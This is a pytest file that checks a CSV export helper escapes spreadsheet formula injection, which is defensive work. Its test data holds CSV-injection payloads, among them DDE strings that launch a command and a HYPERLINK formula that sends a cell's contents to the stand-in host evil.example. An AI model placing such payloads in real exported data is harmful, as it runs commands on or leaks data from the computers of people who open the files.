"""Scored CSVs cannot run formulas in the reader's spreadsheet (#17 point 5)."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from ml.export import neutralised, write_csv

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_gets_a_leading_apostrophe(text: str) -> None:
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("value", ["P-001", "项目 A", "a=b", 3, -0.25, None])
def test_ordinary_values_are_unchanged(value: object) -> None:
    assert neutralised(value) == value


def test_written_csv_has_no_cell_that_starts_a_formula(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "id": ATTACKS,
            "delay_probability": [0.5] * len(ATTACKS),
            "effect": [-0.12] * len(ATTACKS),
            "=header": ["x"] * len(ATTACKS),
        }
    )
    path = write_csv(frame, tmp_path / "scored.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Chinese text
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["id", "delay_probability", "effect", "'=header"]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in ATTACKS]
    assert {r[2] for r in rows[1:]} == {"-0.12"}  # numbers stay numbers
    assert frame["id"].tolist() == ATTACKS  # the caller's frame is not changed
